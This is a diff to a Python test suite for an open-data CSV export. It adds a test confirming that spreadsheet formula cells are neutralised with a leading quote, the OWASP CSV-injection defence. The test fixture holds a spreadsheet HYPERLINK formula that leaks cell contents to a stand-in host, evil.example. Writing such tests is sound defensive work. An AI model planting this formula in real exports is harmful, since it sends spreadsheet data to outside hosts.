@@ -7,7 +7,7 @@ import io
 import json
 import zipfile
 
-from plan_story import PLAN, Story
+from plan_story import PLAN, TII, Story
 
 from audit.exports.opendata import open_data, write_csv_zip
 from audit.exports.plan import load_plan
@@ -16,7 +16,7 @@ from process.rules import can_read
 
 def csv_rows(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
     text = archive.read(name).decode("utf-8-sig")
-    return list(csv.DictReader(io.StringIO(text)))
+    return list(csv.DictReader(io.StringIO(text, newline="")))
 
 
 async def test_tables_have_stable_ogp_style_ids(story: Story) -> None:
@@ -76,3 +76,29 @@ async def test_the_public_sees_only_published_commitments(story: Story) -> None:
     assert data.tables["commitments"] == []
     assert data.tables["milestones"] == [] and data.tables["inputs"] == []
     assert all(c["commitment_id"] == "" for c in data.tables["contributions"])
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik / Click")'
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(story: Story) -> None:
+    """OWASP CSV injection: a cell opening with = + - @ (or a tab or carriage return) is
+    prefixed with a quote, so a spreadsheet shows the text instead of running it."""
+    await story.welfare.edit(TII, "final", lambda c: c.retitle(HYPERLINK))
+    await story.welfare.edit(TII, "final", lambda c: c.milestones()[0].update({
+        "activity": "+62 21 000 000", "deliverable": "-1+1", "output": "@SUM(A1:A9)",
+        "actors": "\t=1+1", "start": "\r=1+1"}))
+    data = open_data(await load_plan(story.store, PLAN))
+    data.tables["inputs"][0]["text"] = "=HYPERLINK(\"https://evil.example\")"
+    out = io.BytesIO()
+    write_csv_zip(data, out)
+    archive = zipfile.ZipFile(out)
+    commitments = csv_rows(archive, "commitments.csv")
+    assert commitments[0]["title"] == "'" + HYPERLINK
+    milestone = csv_rows(archive, "milestones.csv")[0]
+    assert [milestone[k] for k in ("activity", "deliverable", "output", "actors", "start")] == [
+        "'+62 21 000 000", "'-1+1", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1"]
+    assert milestone["end"] == "2023-06-30"  # ordinary text stays as it was
+    assert csv_rows(archive, "inputs.csv")[0]["text"] == "'=HYPERLINK(\"https://evil.example\")"
+    # The JSON keeps the exact text: only spreadsheets run formulas.
+    assert json.loads(archive.read("plan.json"))["commitments"][0]["title"] == HYPERLINK
